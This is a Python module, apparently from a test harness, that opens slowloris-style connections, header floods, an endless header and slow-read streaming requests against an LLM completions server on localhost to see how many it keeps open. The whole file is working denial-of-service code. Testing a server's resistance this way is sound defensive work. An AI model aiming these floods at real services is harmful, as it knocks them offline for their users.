"""Connections that cost the other side as much as they can; in a process of their own."""

from __future__ import annotations

import asyncio
import contextlib
import gc
import json
import os

ATTACKER = "127.0.0.2"
"""Not the address of the well-behaved clients: limits count by address."""
TARGET = "127.0.0.1"
GIVE_UP_S = 20.0
FLOOD_BYTES = 60 * 2**20
LONG_HEADER_BYTES = 20 * 2**20
RIVAL = "slow read"
"""The attack that the engine works for: `READ` asks for the same and reads it."""
READ = "the same, read"
ATTACKS = ("silent", "half-open", "half a body", "header flood", "one long header", "slow read")


async def _connect(port):
    return await asyncio.wait_for(asyncio.open_connection(TARGET, port, local_addr=(ATTACKER, 0)), GIVE_UP_S)


async def _hold(port, first, count, stop):
    """Open connections that send `first` and then nothing; how many are still open at the end."""
    writers = []
    for _ in range(count):
        if stop.is_set():
            break
        try:
            reader, writer = await _connect(port)
            writer.write(first)
        except (OSError, TimeoutError):
            continue
        writers.append((reader, writer))
        if len(writers) % 50 == 0:
            await asyncio.sleep(0.02)
    await asyncio.to_thread(stop.wait)
    still_open = 0
    for reader, writer in writers:
        try:
            while await asyncio.wait_for(reader.read(65536), 0.001):
                pass
        except TimeoutError:
            still_open += 1
        except OSError:
            pass
        writer.transport.abort()
    return still_open


async def _pour(port, head, piece, total_bytes, stop):
    """Send a head that never ends; the bytes that were taken."""
    sent = 0
    try:
        _, writer = await _connect(port)
        writer.write(head)
        while sent < total_bytes and not stop.is_set():
            writer.write(piece)
            sent += len(piece)
            await asyncio.wait_for(writer.drain(), GIVE_UP_S)
        await asyncio.sleep(0.5)
        writer.transport.abort()
    except (OSError, TimeoutError):
        pass
    return sent


async def _unread(port, request, count, stop):
    """Ask and never read."""
    loop = asyncio.get_running_loop()
    transports = []
    for _ in range(count):
        if stop.is_set():
            break
        try:
            transport, _ = await asyncio.wait_for(
                loop.create_connection(_Deaf, TARGET, port, local_addr=(ATTACKER, 0)), GIVE_UP_S
            )
        except (OSError, TimeoutError):
            continue
        transport.write(request)
        transports.append(transport)
        if len(transports) % 50 == 0:
            await asyncio.sleep(0.02)
    await asyncio.to_thread(stop.wait)
    for transport in transports:
        transport.abort()
    return len(transports)


async def _read(port, request, count, stop):
    """Ask for the same once on each connection, and read it; how many answers began."""
    begun = 0

    async def one():
        nonlocal begun
        with contextlib.suppress(OSError, TimeoutError):
            reader, writer = await _connect(port)
            writer.write(request)
            is_first = True
            while not stop.is_set():
                with contextlib.suppress(TimeoutError):
                    if not await asyncio.wait_for(reader.read(65536), 0.5):
                        break
                    begun, is_first = begun + is_first, False
            writer.transport.abort()

    tasks = []
    for _ in range(count):
        tasks.append(asyncio.create_task(one()))
        if len(tasks) % 50 == 0:
            await asyncio.sleep(0.02)
    await asyncio.wait(tasks)
    return begun


class _Deaf(asyncio.Protocol):
    def connection_made(self, transport):
        transport.pause_reading()


async def _attack(name, port, key, model, count, stop):
    head = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\n"
    if name == "silent":
        return await _hold(port, b"", count, stop)
    if name == "half-open":
        return await _hold(port, head + b"X-A: 1\r\nX-B", count, stop)
    if name == "half a body":
        return await _hold(port, head + b"Content-Length: 1000\r\n\r\n{", count, stop)
    if name == "header flood":
        return await _pour(port, head, b"a:\r\n" * 16384, FLOOD_BYTES, stop)
    if name == "one long header":
        return await _pour(port, head + b"X-A: ", b"a" * 65536, LONG_HEADER_BYTES, stop)
    body = json.dumps(
        {"model": model, "prompt": "x", "max_tokens": 20000, "ignore_eos": True, "stream": True}
    ).encode()
    stream = (
        head + b"Authorization: Bearer %s\r\nContent-Length: %d\r\n\r\n" % (key.encode(), len(body)) + body
    )
    # Eight streams hold all the places of their tenant; the others want lists of models, many each.
    listing = b"GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n" % key.encode()
    if name == READ:
        held, asked = await asyncio.gather(
            _read(port, stream, 8, stop), _read(port, listing, count - 8, stop)
        )
        return held + asked
    if name == RIVAL:
        held, asked = await asyncio.gather(
            _unread(port, stream, 8, stop), _unread(port, listing * 200, count - 8, stop)
        )
        return held + asked
    raise ValueError(name)


def run_attack(name, port, key, model, count, stop, result):
    """The attacking process: put into `result` what is still open, or how many bytes were taken.

    It comes after those that are measured and, if that may be, before all else on this machine.
    """
    if os.sched_getscheduler(0) == os.SCHED_RR:
        os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))
    else:
        os.nice(19)
    gc.disable()
    result.put(asyncio.run(_attack(name, port, key, model, count, stop)))
